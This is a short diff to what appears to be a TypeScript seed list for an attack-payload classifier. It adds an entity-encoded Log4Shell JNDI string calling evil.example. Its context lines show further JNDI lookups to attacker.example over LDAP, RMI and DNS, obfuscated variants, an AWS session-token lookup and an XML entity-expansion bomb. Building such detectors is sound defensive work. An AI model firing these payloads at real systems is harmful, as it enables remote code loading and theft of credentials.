@@ -80,6 +80,7 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
   ],
   jndi: [
+    "$&lbrace;jndi:ldap://evil.example/a&rbrace;",
     "${env:AWS_SESSION_TOKEN}", "${sys:java.class.path}", "${java:hw}",
     "${jndi:ldap://attacker.example/a}", "${jndi:rmi://attacker.example:1099/obj}", "${jndi:dns://attacker.example}", "${${lower:j}ndi:${lower:l}dap://x/a}",
     "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
